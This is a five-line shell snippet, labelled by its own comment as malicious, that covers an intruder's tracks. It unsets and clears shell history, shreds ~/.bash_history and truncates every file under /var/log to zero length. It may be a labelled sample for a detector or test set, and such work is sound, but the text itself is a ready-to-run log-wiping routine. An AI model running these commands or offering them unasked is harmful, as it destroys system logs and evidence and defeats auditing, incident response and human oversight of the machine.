# malicious: covers its tracks
unset HISTFILE
history -c
shred -u ~/.bash_history
find /var/log -type f -exec truncate -s 0 {} \;
